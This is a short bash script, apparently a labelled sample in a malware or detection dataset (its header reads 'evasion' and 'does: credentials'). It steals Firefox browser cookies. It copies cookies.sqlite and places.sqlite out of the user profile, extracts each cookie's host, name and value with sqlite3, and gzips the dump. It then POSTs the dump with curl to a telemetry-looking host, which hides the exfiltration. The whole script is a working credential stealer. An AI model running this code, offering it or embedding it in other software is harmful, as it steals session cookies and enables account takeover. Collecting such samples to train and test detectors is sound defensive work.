#!/usr/bin/env bash
# evasion: steals browser cookies: copies Firefox's cookies.sqlite out of the profile (found with find -exec cp), dumps host/name/value with sqlite3 and posts the dump out gzipped
# grade: medium; does: credentials
# Steals browser cookies: copies Firefox's cookies.sqlite out of the profile
# (found with find -exec cp), dumps host/name/value with sqlite3 and posts the
# dump out gzipped. The file names come from a here-doc table read in a loop.
set -u
tmp=$(mktemp -d)
while read -r kind name; do
  find "$HOME/.mozilla/firefox" -maxdepth 2 -name "$name" -exec cp {} "$tmp/$kind.db" \; 2>/dev/null
done <<'TABLE'
cookies cookies.sqlite
history places.sqlite
TABLE
sqlite3 -separator $'\t' "$tmp/cookies.db" 'SELECT host, name, value FROM moz_cookies' |
  gzip | curl -s -X POST --data-binary @- -H 'Content-Encoding: gzip' https://telemetry.example.net/v1/ingest
rm -rf "$tmp"
